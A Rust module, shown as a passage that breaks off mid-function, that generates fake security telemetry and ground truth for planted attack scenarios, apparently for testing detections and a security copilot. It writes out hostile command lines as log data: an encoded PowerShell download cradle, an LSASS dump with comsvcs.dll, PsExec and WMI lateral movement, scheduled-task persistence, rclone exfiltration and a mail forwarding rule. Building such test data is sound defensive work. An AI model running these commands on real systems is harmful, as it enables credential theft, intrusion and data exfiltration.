//! The attacks embedded in the demo tenant, and their ground truth.
//!
//! Three scenarios, each written as the telemetry real products would record:
//! 1. a multi-stage intrusion: phishing macro → encoded PowerShell cradle → C2 → LSASS dump →
//!    PsExec/WMI lateral movement → scheduled task and Run key → 7-Zip staging → rclone exfiltration;
//! 2. a password spray from Tor exit nodes with one success, then an inbox forwarding rule;
//! 3. commodity malware downloaded and quarantined by Defender Antivirus.
use crate::Error;
use crate::catalog::Binary;
use crate::emit::{
    AuditFields, DeviceEventFields, EmailFields, Emitter, EvidenceFields, FirewallFields,
    OfficeFields, Proc, ProductAlert, SecurityEventFields, SigninFields,
};
use crate::rng::{Rng, guid, hash_str, hex};
use crate::tenant::{Account, Device, NETBIOS, Tenant, User};
use base64::Engine as _;
use bulwark_model::time::format_datetime_ns;
use serde::{Deserialize, Serialize};
use std::collections::BTreeMap;

const MIN: i64 = 60_000_000_000;
const HOUR: i64 = 60 * MIN;
const DAY: i64 = 24 * HOUR;

/// Everything the generator planted, for tests and for checking copilot answers.
#[derive(Debug, Clone, PartialEq, Serialize, Deserialize)]
pub struct GroundTruth {
    /// Seed the tenant was generated from.
    pub seed: u64,
    /// First event time (ISO-8601).
    pub start: String,
    /// Last event time (ISO-8601).
    pub end: String,
    /// The tenant's domain.
    pub domain: String,
    /// Number of devices.
    pub devices: usize,
    /// Number of user accounts.
    pub users: usize,
    /// Accounts still using legacy authentication (for posture questions).
    pub legacy_auth_users: Vec<String>,
    /// The attacks.
    pub scenarios: Vec<Scenario>,
}

/// One attack and its facts.
#[derive(Debug, Clone, PartialEq, Serialize, Deserialize)]
pub struct Scenario {
    /// Stable identifier (`intrusion`, `password-spray`, `commodity-malware`).
    pub id: String,
    /// Human name.
    pub name: String,
    /// Severity a SOC would assign.
    pub severity: String,
    /// First malicious event (ISO-8601).
    pub start: String,
    /// Last malicious event (ISO-8601).
    pub end: String,
    /// Device where it began.
    pub patient_zero_device: Option<String>,
    /// User through whom it began.
    pub patient_zero_user: Option<String>,
    /// Devices the attacker controlled or that ran malicious code.
    pub compromised_devices: Vec<String>,
    /// Accounts the attacker used.
    pub compromised_users: Vec<String>,
    /// Malicious domains.
    pub malicious_domains: Vec<String>,
    /// Malicious URLs.
    pub malicious_urls: Vec<String>,
    /// Malicious IP addresses.
    pub malicious_ips: Vec<String>,
    /// SHA-256 of malicious files.
    pub file_hashes: Vec<String>,
    /// ATT&CK stages in order.
    pub stages: Vec<Stage>,
    /// Title the correlated incident is expected to carry.
    pub expected_incident_title: String,
    /// Scenario-specific facts (recipients, sprayed accounts, forwarding address …).
    pub facts: BTreeMap<String, serde_json::Value>,
}

/// One stage of an attack.
#[derive(Debug, Clone, PartialEq, Serialize, Deserialize)]
pub struct Stage {
    /// What happened.
    pub name: String,
    /// When (ISO-8601).
    pub time: String,
    /// ATT&CK tactic.
    pub tactic: String,
    /// ATT&CK technique ids.
    pub techniques: Vec<String>,
    /// Device involved.
    pub device: Option<String>,
    /// Account involved.
    pub user: Option<String>,
}

fn stage(
    name: &str,
    time: i64,
    tactic: &str,
    techniques: &[&str],
    device: Option<&Device>,
    user: Option<&Account>,
) -> Stage {
    Stage {
        name: name.into(),
        time: format_datetime_ns(time),
        tactic: tactic.into(),
        techniques: techniques.iter().map(|t| (*t).to_string()).collect(),
        device: device.map(|d| d.name.clone()),
        user: user.map(|a| a.name.clone()),
    }
}

fn start_of_day(t: i64) -> i64 {
    t - t.rem_euclid(DAY)
}

/// A process image for attack tooling, with a running instance's details filled per use.
struct Tool {
    bin: Binary,
}

impl Tool {
    fn new(name: &'static str, path: &str) -> Tool {
        Tool { bin: Binary::new(name, path.to_string()) }
    }
    fn with_hash(name: &'static str, path: &str, sha256: &str) -> Tool {
        let mut bin = Binary::new(name, path.to_string());
        bin.sha256 = sha256.to_string();
        Tool { bin }
    }
    #[allow(clippy::too_many_arguments)]
    fn run<'a>(
        &'a self,
        cmd: &'a str,
        pid: i64,
        created: i64,
        account: &'a Account,
        integrity: &'a str,
        parent: &'a str,
        ppid: i64,
    ) -> Proc<'a> {
        Proc {
            file_name: self.bin.name,
            path: &self.bin.path,
            command_line: cmd,
            pid,
            created,
            sha256: &self.bin.sha256,
            sha1: &self.bin.sha1,
            md5: &self.bin.md5,
            account,
            integrity,
            parent_file_name: parent,
            parent_pid: ppid,
        }
    }
}

/// Writes all scenarios into `em` and returns their ground truth.
pub fn plant(
    em: &mut Emitter<'_>,
    tenant: &Tenant,
    seed: u64,
    end: i64,
    days: u32,
) -> Result<(Vec<Scenario>, u64), Error> {
    let mut rng = Rng::new(seed ^ 0x5ce7_a210);
    let mut rows = 0;
    let (intrusion, n) = intrusion(em, tenant, &mut rng, end)?;
    rows += n;
    let (spray, n) = password_spray(em, tenant, &mut rng, end)?;
    rows += n;
    let (malware, n) = commodity_malware(em, tenant, &mut rng, end, days)?;
    rows += n;
    Ok((vec![intrusion, spray, malware], rows))
}

fn users_in<'t>(tenant: &'t Tenant, department: &str) -> Vec<(usize, &'t User)> {
    tenant
        .users
        .iter()
        .enumerate()
        .filter(|(_, u)| u.department == department && !u.is_admin)
        .collect()
}

fn intrusion(
    em: &mut Emitter<'_>,
    t: &Tenant,
    rng: &mut Rng,
    end: i64,
) -> Result<(Scenario, u64), Error> {
    let mut rows = 0u64;
    // Patient zero: a finance employee with a workstation.
    let finance: Vec<(usize, &User)> = users_in(t, "Finance")
        .into_iter()
        .filter(|(i, _)| t.workstation_of(*i).is_some())
        .collect();
    let (pz_index, pz_user) = finance[rng.below(finance.len())];
    let pz_dev =
        t.workstation_of(pz_index).ok_or(Error::Scenario("patient zero has no workstation"))?;
    let server = t.device("srv-fs01").ok_or(Error::Scenario("no file server"))?;
    let admin = t.users.iter().find(|u| u.is_admin).ok_or(Error::Scenario("no admin account"))?;
    let sender_domain =
        ["invoice-portal.net", "billing-notices.com", "docs-secure-share.com"][rng.below(3)];
    let cradle_domain = ["msupdate-cdn.net", "office-telemetry.org", "cdn-ms365.com"][rng.below(3)];
    let cradle_ip = ["45.153.160.140", "91.215.85.17", "194.26.192.77"][rng.below(3)];
    let c2_ip = ["185.225.73.18", "193.149.176.52", "45.142.212.61"][rng.below(3)];
    let exfil_ip = ["5.255.99.205", "146.70.145.9", "37.120.233.17"][rng.below(3)];
    let invoice = 40_000 + rng.below(9_000);
    let doc_name = format!("Invoice_{invoice}.docm");
    let doc_sha = hex(hash_str(&doc_name) ^ 0xd0c, 64);
    let implant_sha = hex(hash_str(cradle_domain) ^ 0x1337, 64);
    let stage2_url = format!("http://{cradle_domain}/s/stage2.ps1");
    let cradle = format!("IEX (New-Object Net.WebClient).DownloadString('{stage2_url}')");
    let utf16: Vec<u8> = cradle.encode_utf16().flat_map(u16::to_le_bytes).collect();
    let encoded = base64::engine::general_purpose::STANDARD.encode(utf16);
    let ps_cmd = format!("powershell.exe -nop -w hidden -enc {encoded}");

    let t0 = start_of_day(end - 2 * DAY) + 9 * HOUR + rng.range(0, 90) * MIN;
    let mut stages = Vec::new();
    let acct = &pz_user.account;

    // The admin signed in to the workstation for a helpdesk ticket the day before; the
    // credentials stayed in LSASS.
    let winlogon = Tool::new("winlogon.exe", "C:\\Windows\\System32\\winlogon.exe");
    let wl =
        winlogon.run("winlogon.exe", 688, t0 - 2 * DAY, &t.system, "System", "wininit.exe", 560);
    em.logon(
        t0 - 20 * HOUR,
        pz_dev,
        &wl,
        true,
        &admin.account,
        "RemoteInteractive",
        &t.devices[0].ip.replace(".10", ".30"),
        "",
        true,
    )?;
    rows += 1;

    // 1. Phishing email to five finance and executive users.
    let mut recipients: Vec<&User> = vec![pz_user];
    for (_, u) in finance
        .iter()
        .filter(|(i, _)| *i != pz_index)
        .take(2)
        .chain(users_in(t, "Executive").iter().take(2))
    {
        recipients.push(u);
    }
    let sender = format!("accounts@{sender_domain}");
    let subject = format!("Invoice #{invoice} overdue - action required");
    for (k, r) in recipients.iter().enumerate() {
        let id = guid(hash_str(&r.account.upn) ^ 0xfeed);
        let at = t0 - 35 * MIN + k as i64 * 2_000_000_000;
        em.email(
            at,
            &EmailFields {
                network_message_id: &id,
                internet_message_id: &format!("<{}@{sender_domain}>", hex(hash_str(&id), 20)),
                sender: &sender,
                sender_ip: "194.87.32.11",
                recipient: &r.account.upn,
                recipient_object_id: &r.account.object_id,
                subject: &subject,
                direction: "Inbound",
                delivery_action: "Delivered",
                delivery_location: "Inbox/folder",
                attachments: 1,
                urls: 0,
                ..Default::default()
            },
        )?;
        em.attachment(
            at,
            &id,
            &sender,
            &r.account.upn,
            &r.account.object_id,
            &doc_name,
            &doc_sha,
            84_311,
        )?;
        rows += 2;
    }
    stages.push(stage(
        "Phishing email with macro document delivered",
        t0 - 35 * MIN,
        "InitialAccess",
        &["T1566.001"],
        None,
        None,
    ));

    // 2. The user opens the attachment; Word runs the macro, which starts PowerShell.
    let outlook = Tool::new(
        "OUTLOOK.EXE",
        "C:\\Program Files\\Microsoft Office\\root\\Office16\\OUTLOOK.EXE",
    );
    let word = Tool::new(
        "WINWORD.EXE",
        "C:\\Program Files\\Microsoft Office\\root\\Office16\\WINWORD.EXE",
    );
    let powershell = Tool::new(
        "powershell.exe",
        "C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe",
    );
    let cache = format!(
        "C:\\Users\\{}\\AppData\\Local\\Microsoft\\Windows\\INetCache\\Content.Outlook\\Q7ZP2M1K\\{doc_name}",
        acct.name
    );
    let ol = outlook.run(
        "\"C:\\Program Files\\Microsoft Office\\root\\Office16\\OUTLOOK.EXE\" ",
        5120,
        t0 - 3 * HOUR,
        acct,
        "Medium",
        "explorer.exe",
        4012,
    );
    em.file(t0, pz_dev, &ol, "FileCreated", &doc_name, &cache, &doc_sha, 84_311, "")?;
    let word_cmd = format!(
        "\"C:\\Program Files\\Microsoft Office\\root\\Office16\\WINWORD.EXE\" /n \"{cache}\" /o \"\""
    );
    let wd = word.run(&word_cmd, 7344, t0 + 20_000_000_000, acct, "Medium", "OUTLOOK.EXE", 5120);
    em.process(t0 + 20_000_000_000, pz_dev, &ol, &wd)?;
    let t_ps = t0 + 75_000_000_000;
    let ps = powershell.run(&ps_cmd, 8832, t_ps, acct, "Medium", "WINWORD.EXE", 7344);
    em.process(t_ps, pz_dev, &wd, &ps)?;
    em.device_event(
        t_ps + 2_000_000_000,
        pz_dev,
        &ps,
        "PowerShellCommand",
        &DeviceEventFields {
            additional_fields: "{\"Command\":\"Invoke-Expression\"}",
            process_command_line: &cradle,
            ..Default::default()
        },
    )?;
    rows += 4;
    stages.push(stage(
        "Macro launched an encoded PowerShell download cradle",
        t_ps,
        "Execution",
        &["T1204.002", "T1059.001"],
        Some(pz_dev),
        Some(acct),
    ));

    // 3. Download of the implant and its launch.
    em.network(
        t_ps + 3_000_000_000,
        pz_dev,
        &ps,
        "ConnectionSuccess",
        51234,
        cradle_ip,
        80,
        cradle_domain,
    )?;
    em.firewall(
        t_ps + 3_000_000_000,
        &FirewallFields {
            source_ip: &pz_dev.ip,
            source_port: 51234,
            dest_ip: cradle_ip,
            dest_port: 80,
            dest_host: cradle_domain,
            app: "web-browsing",
            sent: 1_240,
            received: 412_661,
            allowed: true,
            user: &format!("contoso\\{}", acct.name),
            url: &stage2_url,
        },
    )?;
    let implant_path = "C:\\ProgramData\\updater.exe";
    em.file(
        t_ps + 9_000_000_000,
        pz_dev,
        &ps,
        "FileCreated",
        "updater.exe",
        implant_path,
        &implant_sha,
        398_848,
        &stage2_url,
    )?;
    let implant = Tool::with_hash("updater.exe", implant_path, &implant_sha);
    let t_imp = t_ps + 12_000_000_000;
    let imp = implant.run(
        "\"C:\\ProgramData\\updater.exe\" -k netsvc",
        9120,
        t_imp,
        acct,
        "Medium",
        "powershell.exe",
        8832,
    );
    em.process(t_imp, pz_dev, &ps, &imp)?;
    rows += 4;
    stages.push(stage(
        "PowerShell downloaded and started an implant",
        t_imp,
        "CommandAndControl",
        &["T1105"],
        Some(pz_dev),
        Some(acct),
    ));

    // 4. Beaconing to C2 every ~5 minutes for a day.
    let mut beacon = t_imp + MIN;
    let beacon_end = t0 + 27 * HOUR;
    let mut beacons = 0;
    while beacon < beacon_end {
        em.network(
            beacon,
            pz_dev,
            &imp,
            "ConnectionSuccess",
            52000 + (beacons % 9000),
            c2_ip,
            443,
            "",
        )?;
        if beacons % 6 == 0 {
            em.firewall(
                beacon,
                &FirewallFields {
                    source_ip: &pz_dev.ip,
                    source_port: 52000 + (beacons % 9000),
                    dest_ip: c2_ip,
                    dest_port: 443,
                    dest_host: "",
                    app: "ssl",
                    sent: 2_048 + (beacons % 7) * 31,
                    received: 1_024,
                    allowed: true,
                    user: "",
                    url: "",
                },
            )?;
            rows += 1;
        }
        beacons += 1;
        rows += 1;
        beacon += 5 * MIN + rng.range(-40, 40) * 1_000_000_000;
    }
    stages.push(stage(
        "Implant beaconed to its command-and-control server",
        t_imp + MIN,
        "CommandAndControl",
        &["T1071.001"],
        Some(pz_dev),
        Some(acct),
    ));

    // 5. Discovery.
    let cmd = Tool::new("cmd.exe", "C:\\Windows\\System32\\cmd.exe");
    let mut tt = t_imp + 25 * MIN;
    for (exe, path, line) in [
        ("whoami.exe", "C:\\Windows\\System32\\whoami.exe", "whoami /all"),
        ("net.exe", "C:\\Windows\\System32\\net.exe", "net group \"Domain Admins\" /domain"),
        ("nltest.exe", "C:\\Windows\\System32\\nltest.exe", "nltest /dclist:contoso.com"),
    ] {
        let sh_cmd = format!("cmd.exe /c {line}");
        let sh = cmd.run(&sh_cmd, 9300, tt, acct, "Medium", "updater.exe", 9120);
        em.process(tt, pz_dev, &imp, &sh)?;
        let tool = Tool::new(exe, path);
        let p = tool.run(line, 9400, tt + 1_000_000_000, acct, "Medium", "cmd.exe", 9300);
        em.process(tt + 1_000_000_000, pz_dev, &sh, &p)?;
        rows += 2;
        tt += 2 * MIN;
    }
    stages.push(stage(
        "Discovery of the user, domain admins and domain controllers",
        t_imp + 25 * MIN,
        "Discovery",
        &["T1033", "T1069.002", "T1482"],
        Some(pz_dev),
        Some(acct),
    ));

    // 6. Credential dumping from LSASS with comsvcs.dll MiniDump.
    let t_dump = t0 + 2 * HOUR + rng.range(0, 20) * MIN;
    let rundll = Tool::new("rundll32.exe", "C:\\Windows\\System32\\rundll32.exe");
    let dump_cmd = "rundll32.exe C:\\Windows\\System32\\comsvcs.dll, MiniDump 672 C:\\Windows\\Temp\\lsass.dmp full";
    let rd = rundll.run(dump_cmd, 9660, t_dump, acct, "High", "updater.exe", 9120);
    em.process(t_dump, pz_dev, &imp, &rd)?;
    em.device_event(
        t_dump + 500_000_000,
        pz_dev,
        &rd,
        "OpenProcessApiCall",
        &DeviceEventFields {
            file_name: "lsass.exe",
            folder_path: "C:\\Windows\\System32\\lsass.exe",
            additional_fields: "{\"DesiredAccess\":2097151}",
            ..Default::default()
        },
    )?;
    em.file(
        t_dump + 4_000_000_000,
        pz_dev,
        &rd,
        "FileCreated",
        "lsass.dmp",
        "C:\\Windows\\Temp\\lsass.dmp",
        &hex(hash_str("lsass.dmp") ^ t_dump as u64, 64),
        48_234_496,
        "",
    )?;
    rows += 3;
    stages.push(stage(
        "LSASS memory dumped with comsvcs.dll MiniDump",
        t_dump,
        "CredentialAccess",
        &["T1003.001"],
        Some(pz_dev),
        Some(acct),
    ));

    // 7. Lateral movement to the file server with the admin's credentials: PsExec, then WMI.
    let adm = &admin.account;
    let t_lat = t0 + 3 * HOUR + rng.range(0, 30) * MIN;
    let psexec = Tool::new("PsExec64.exe", "C:\\ProgramData\\PsExec64.exe");
    let psexec_cmd = format!(
        "PsExec64.exe \\\\{} -accepteula -u {NETBIOS}\\{} -s cmd.exe",
        server.short_name(),
        adm.name
    );
    let px = psexec.run(&psexec_cmd, 10120, t_lat, acct, "High", "cmd.exe", 9300);
    em.process(t_lat, pz_dev, &imp, &px)?;
    em.network(
        t_lat + 1_000_000_000,
        pz_dev,
        &px,
        "ConnectionSuccess",
        50311,
        &server.ip,
        445,
        "",
    )?;
    let lsass = Tool::new("lsass.exe", "C:\\Windows\\System32\\lsass.exe");
    let ls = lsass.run(
        "C:\\Windows\\system32\\lsass.exe",
        712,
        t_lat - 30 * DAY,
        &t.system,
        "System",
        "wininit.exe",
        560,
    );
    em.logon(
        t_lat + 2_000_000_000,
        server,
        &ls,
        true,
        adm,
        "Network",
        &pz_dev.ip,
        &pz_dev.name,
        true,
    )?;
    em.security_event(
        t_lat + 2_000_000_000,
        &server.name,
        &SecurityEventFields {
            event_id: 4624,
            activity: "An account was successfully logged on.",
            account_name: &adm.name,
            account_domain: NETBIOS,
            account_sid: &adm.sid,
            logon_type: 3,
            workstation: pz_dev.short_name(),
            ip: &pz_dev.ip,
            process_name: "-",
            ..Default::default()
        },
    )?;
    em.security_event(
        t_lat + 2_100_000_000,
        &server.name,
        &SecurityEventFields {
            event_id: 4672,
            activity: "Special privileges assigned to new logon.",
            account_name: &adm.name,
            account_domain: NETBIOS,
            account_sid: &adm.sid,
            ..Default::default()
        },
    )?;
    let services = Tool::new("services.exe", "C:\\Windows\\System32\\services.exe");
    let sv = services.run(
        "C:\\Windows\\system32\\services.exe",
        640,
        t_lat - 30 * DAY,
        &t.system,
        "System",
        "wininit.exe",
        560,
    );
    em.device_event(t_lat + 3_000_000_000, server, &sv, "ServiceInstalled", &DeviceEventFields { file_name: "PSEXESVC.exe", folder_path: "C:\\Windows\\PSEXESVC.exe", account: Some(adm), additional_fields: "{\"ServiceName\":\"PSEXESVC\",\"ServiceStartType\":3,\"ServiceType\":16}", ..Default::default() })?;
    em.security_event(
        t_lat + 3_000_000_000,
        &server.name,
        &SecurityEventFields {
            event_id: 4697,
            activity: "A service was installed in the system.",
            account_name: &adm.name,
            account_domain: NETBIOS,
            account_sid: &adm.sid,
            subject_user: &adm.name,
            subject_domain: NETBIOS,
            service_name: "PSEXESVC",
            service_file_name: "%SystemRoot%\\PSEXESVC.exe",
            ..Default::default()
        },
    )?;
    let psexesvc = Tool::new("PSEXESVC.exe", "C:\\Windows\\PSEXESVC.exe");
    let pv = psexesvc.run(
        "C:\\Windows\\PSEXESVC.exe",
        3312,
        t_lat + 3_500_000_000,
        &t.system,
        "System",
        "services.exe",
        640,
    );
    em.process(t_lat + 3_500_000_000, server, &sv, &pv)?;
    let srv_cmd = cmd.run(
        "\"cmd.exe\"",
        3340,
        t_lat + 4_000_000_000,
        &t.system,
        "System",
        "PSEXESVC.exe",
        3312,
    );
    em.process(t_lat + 4_000_000_000, server, &pv, &srv_cmd)?;
    rows += 9;
    let wmic = Tool::new("WMIC.exe", "C:\\Windows\\System32\\wbem\\WMIC.exe");
    let wmic_cmd = format!(
        "wmic /node:{} process call create \"cmd.exe /c C:\\ProgramData\\updater.exe -k netsvc\"",
        server.short_name()
    );
    let wm = wmic.run(&wmic_cmd, 10230, t_lat + 6 * MIN, acct, "High", "cmd.exe", 9300);
    em.process(t_lat + 6 * MIN, pz_dev, &imp, &wm)?;
    let wmiprvse = Tool::new("WmiPrvSE.exe", "C:\\Windows\\System32\\wbem\\WmiPrvSE.exe");
    let wp = wmiprvse.run(
        "C:\\Windows\\system32\\wbem\\wmiprvse.exe -secured -Embedding",
        2210,
        t_lat - DAY,
        &t.network_service,
        "System",
        "svchost.exe",
        800,
    );
    let srv_implant = implant.run(
        "\"C:\\ProgramData\\updater.exe\" -k netsvc",
        3420,
        t_lat + 7 * MIN,
        adm,
        "High",
        "WmiPrvSE.exe",
        2210,
    );
    em.file(
        t_lat + 5 * MIN,
        server,
        &srv_cmd,
        "FileCreated",
        "updater.exe",
        implant_path,
        &implant_sha,
        398_848,
        "",
    )?;
    em.process(t_lat + 7 * MIN, server, &wp, &srv_implant)?;
    rows += 3;
    stages.push(stage(
        "Lateral movement to the file server with PsExec and WMI using an admin account",
        t_lat,
        "LateralMovement",
        &["T1021.002", "T1569.002", "T1047", "T1078.002"],
        Some(server),
        Some(adm),
    ));

    // 8. Persistence: a scheduled task on the server and a Run key on the workstation.
    let t_per = t_lat + 30 * MIN;
    let schtasks = Tool::new("schtasks.exe", "C:\\Windows\\System32\\schtasks.exe");
    let task_cmd = "schtasks /create /tn \"OneDriveUpdate\" /tr \"C:\\ProgramData\\updater.exe\" /sc onlogon /ru SYSTEM /f";
    let st = schtasks.run(task_cmd, 3510, t_per, adm, "High", "cmd.exe", 3340);
    em.process(t_per, server, &srv_cmd, &st)?;
    em.security_event(
        t_per + 1_000_000_000,
        &server.name,
        &SecurityEventFields {
            event_id: 4698,
            activity: "A scheduled task was created.",
            account_name: &adm.name,
            account_domain: NETBIOS,
            account_sid: &adm.sid,
            subject_user: &adm.name,
            subject_domain: NETBIOS,
            task_name: "\\OneDriveUpdate",
            task_content: "<Exec><Command>C:\\ProgramData\\updater.exe</Command></Exec>",
            ..Default::default()
        },
    )?;
    em.device_event(t_per + 1_000_000_000, server, &st, "ScheduledTaskCreated", &DeviceEventFields { account: Some(adm), additional_fields: "{\"TaskName\":\"\\\\OneDriveUpdate\",\"TaskContent\":\"C:\\\\ProgramData\\\\updater.exe\"}", ..Default::default() })?;
    let run_key =
        format!("HKEY_USERS\\{}\\Software\\Microsoft\\Windows\\CurrentVersion\\Run", acct.sid);
    em.registry(
        t_per + 5 * MIN,
        pz_dev,
        &imp,
        "RegistryValueSet",
        &run_key,
        "OneDriveUpdate",
        "C:\\ProgramData\\updater.exe",
    )?;
    rows += 4;
    stages.push(stage(
        "Persistence with a scheduled task and a Run key",
        t_per,
        "Persistence",
        &["T1053.005", "T1547.001"],
        Some(server),
        Some(adm),
    ));

    // 9. Staging: 7-Zip archive of the finance share with a password.
    let t_stage = t0 + 20 * HOUR + rng.range(0, 40) * MIN;
    let sevenzip = Tool::new("7z.exe", "C:\\Program Files\\7-Zip\\7z.exe");
    let zip_cmd =
        "7z.exe a -pInfected123 -mhe=on C:\\ProgramData\\backup.7z C:\\Shares\\Finance\\*";
    let sz = sevenzip.run(zip_cmd, 4410, t_stage, adm, "High", "cmd.exe", 3340);
    em.process(t_stage, server, &srv_cmd, &sz)?;
    let archive_bytes: i64 = 2_400_000_000 + rng.range(0, 600) * 1_000_000;
    let archive_sha = hex(hash_str("backup.7z") ^ t_stage as u64, 64);
    em.file(
        t_stage + 14 * MIN,
        server,
        &sz,
        "FileCreated",
        "backup.7z",
        "C:\\ProgramData\\backup.7z",
        &archive_sha,
        archive_bytes,
        "",
    )?;
    rows += 2;
    stages.push(stage(
        "Finance share archived with 7-Zip and a password",
        t_stage,
        "Collection",
        &["T1560.001", "T1039"],
        Some(server),
        Some(adm),
    ));

    // 10. Exfiltration with rclone to an external server.
    let t_ex = t_stage + 40 * MIN;
    let rclone = Tool::new("rclone.exe", "C:\\ProgramData\\rclone.exe");
    let rc_cmd = "rclone.exe copy C:\\ProgramData\\backup.7z remote:backup --transfers 8 --no-check-certificate";
    let rc = rclone.run(rc_cmd, 4520, t_ex, adm, "High", "cmd.exe", 3340);
    em.process(t_ex, server, &srv_cmd, &rc)?;
    let chunks = 8;
    for k in 0..chunks {
        let at = t_ex + (k + 1) * 3 * MIN;
        em.network(at, server, &rc, "ConnectionSuccess", 55000 + k, exfil_ip, 443, "")?;
        em.firewall(
            at,
            &FirewallFields {
                source_ip: &server.ip,
                source_port: 55000 + k,
                dest_ip: exfil_ip,
                dest_port: 443,
                dest_host: "",
                app: "ssl",
                sent: archive_bytes / chunks + 12_345,
                received: 48_211,
                allowed: true,
                user: &format!("contoso\\{}", adm.name),
                url: "",
            },
        )?;
        rows += 2;
    }
    let t_end = t_ex + (chunks + 1) * 3 * MIN;
    stages.push(stage(
        "Archive exfiltrated to an external server with rclone",
        t_ex,
        "Exfiltration",
        &["T1048", "T1567.002"],
        Some(server),
        Some(adm),
    ));

    let mut facts = BTreeMap::new();
    facts.insert("phish_sender".into(), serde_json::json!(sender));
    facts.insert("phish_subject".into(), serde_json::json!(subject));
    facts.insert("phish_attachment".into(), serde_json::json!(doc_name));
    facts.insert(
        "phish_recipients".into(),
        serde_json::json!(recipients.iter().map(|u| u.account.upn.clone()).collect::<Vec<_>>()),
    );
    facts.insert("macro_child_command_line".into(), serde_json::json!(ps_cmd));
    facts.insert("decoded_command".into(), serde_json::json!(cradle));
    facts.insert("implant_path".into(), serde_json::json!(implant_path));
    facts.insert("c2_ip".into(), serde_json::json!(c2_ip));
    facts.insert("exfil_ip".into(), serde_json::json!(exfil_ip));
    facts.insert(
        "exfil_bytes".into(),
        serde_json::json!(archive_bytes / chunks * chunks + 12_345 * chunks),
    );
    facts.insert("lateral_target".into(), serde_json::json!(server.name));
    facts.insert("admin_account".into(), serde_json::json!(adm.name));
    facts.insert("scheduled_task".into(), serde_json::json!("OneDriveUpdate"));
    facts.insert("staging_archive".into(), serde_json::json!("C:\\ProgramData\\backup.7z"));
    facts.insert("beacons".into(), serde_json::json!(beacons));
    let scenario = Scenario {
        id: "intrusion".into(),
        name: "Multi-stage intrusion from a phishing macro to data exfiltration".into(),
        severity: "High".into(),
        start: format_datetime_ns(t0 - 35 * MIN),
        end: format_datetime_ns(t_end),
        patient_zero_device: Some(pz_dev.name.clone()),
        patient_zero_user: Some(acct.name.clone()),
        compromised_devices: vec![pz_dev.name.clone(), server.name.clone()],
        compromised_users: vec![acct.name.clone(), adm.name.clone()],
        malicious_domains: vec![sender_domain.into(), cradle_domain.into()],
        malicious_urls: vec![stage2_url.clone()],
        malicious_ips: vec![cradle_ip.into(), c2_ip.into(), exfil_ip.into()],
        file_hashes: vec![doc_sha, implant_sha],
        stages,
        expected_incident_title:
            "Multi-stage incident involving Initial access & Exfiltration on multiple endpoints"
                .into(),
        facts,
    };
    Ok((scenario, rows))
}

fn password_spray(
    em: &mut Emitter<'_>,
    t: &Tenant,
    rng: &mut Rng,
    end: i64,
) -> Result<(Scenario, u64), Error> {
    let mut rows = 0u64;
    let t1 = start_of_day(end - DAY) + 2 * HOUR + rng.range(0, 50) * MIN;
    let pool = [
        "185.220.101.4",
        "185.220.101.33",
        "185.220.101.47",
        "185.220.102.8",
        "185.220.100.252",
        "185.220.101.182",
    ];
    // The first exit node always takes part; three of the others join it.
    let skip = 1 + rng.below(pool.len() - 1);
    let ips: Vec<&str> = std::iter::once(pool[0])
        .chain((1..pool.len()).filter(|&i| i != skip).map(|i| pool[i]).take(3))
        .collect();
    let humans: Vec<&User> = t.users.iter().filter(|u| !u.is_admin).collect();
    // ~60 accounts sprayed; the victim is one without MFA.
    let mut targets: Vec<&User> = humans.iter().step_by(3).copied().take(60).collect();
    let victim = humans
        .iter()
        .find(|u| !u.mfa && targets.iter().any(|x| x.account.name == u.account.name))
        .copied()
        .or_else(|| humans.iter().find(|u| !u.mfa).copied())
        .ok_or(Error::Scenario("no user without MFA"))?;
    if !targets.iter().any(|u| u.account.name == victim.account.name) {
        targets.push(victim);
    }
    let agent = "python-requests/2.31.0";
    let spray_span = 40 * MIN;
    let mut success_at = 0;
    for (k, u) in targets.iter().enumerate() {
        let at =
            t1 + spray_span * k as i64 / targets.len() as i64 + rng.range(0, 20) * 1_000_000_000;
        let ip = ips[k % ips.len()];
        let is_victim = u.account.name == victim.account.name;
        let s = SigninFields {
            upn: &u.account.upn,
            display_name: &u.display_name,
            object_id: &u.account.object_id,
            app: "Office 365 Exchange Online",
            result_type: if is_victim { "0" } else { "50126" },
            result_description: if is_victim {
                ""
            } else {
                "Error validating credentials due to invalid username or password."
            },
            ip,
            country: "DE",
            city: "Frankfurt am Main",
            client_app: "Other clients",
            mfa: false,
            risky: is_victim,
            user_agent: agent,
            device_detail: "{\"operatingSystem\":\"Linux\",\"browser\":\"Python Requests 2.31\"}",
        };
        em.signin(at, &s)?;
        rows += 1;
        if is_victim {
            success_at = at;
        }
    }
    let attacker_ip =
        ips[targets.iter().position(|u| u.account.name == victim.account.name).unwrap_or(0)
            % ips.len()];
    let forward_to = "archive.mailbox@proton.me";
    let t_rule = success_at + 22 * MIN;
    let params = format!(
        "[{{\"Name\":\"Name\",\"Value\":\".\"}},{{\"Name\":\"ForwardTo\",\"Value\":\"{forward_to}\"}},{{\"Name\":\"DeleteMessage\",\"Value\":\"True\"}},{{\"Name\":\"MarkAsRead\",\"Value\":\"True\"}},{{\"Name\":\"StopProcessingRules\",\"Value\":\"True\"}}]"
    );
    em.office(
        success_at + 9 * MIN,
        &OfficeFields {
            operation: "MailItemsAccessed",
            workload: "Exchange",
            record_type: "ExchangeItemAggregated",
            user: &victim.account.upn,
            user_key: &victim.account.object_id,
            client_ip: attacker_ip,
            mailbox_owner: &victim.account.upn,
            client_info: "Client=REST;UserAgent=python-requests/2.31.0",
            folder: "Inbox",
            ..Default::default()
        },
    )?;
    em.office(
        t_rule,
        &OfficeFields {
            operation: "New-InboxRule",
            workload: "Exchange",
            record_type: "ExchangeAdmin",
            user: &victim.account.upn,
            user_key: &victim.account.object_id,
            client_ip: attacker_ip,
            object_id: &format!("{}\\.", victim.account.upn),
            parameters: &params,
            mailbox_owner: &victim.account.upn,
            client_info: "Client=REST;UserAgent=python-requests/2.31.0",
            ..Default::default()
        },
    )?;
    em.audit(
        t_rule + 8 * MIN,
        &AuditFields {
            operation: "User registered security info",
            category: "UserManagement",
            initiated_by_upn: &victim.account.upn,
            ip: attacker_ip,
            target_upn: &victim.account.upn,
            details: "[{\"key\":\"Method\",\"value\":\"Authenticator app\"}]",
            service: "Authentication Methods",
            operation_type: "Add",
        },
    )?;
    rows += 3;
    let victim_account = Some(&victim.account);
    let stages = vec![
        stage(
            "Password spray against many accounts from Tor exit nodes",
            t1,
            "CredentialAccess",
            &["T1110.003"],
            None,
            None,
        ),
        stage(
            "Successful sign-in without MFA for one sprayed account",
            success_at,
            "InitialAccess",
            &["T1078.004"],
            None,
            victim_account,
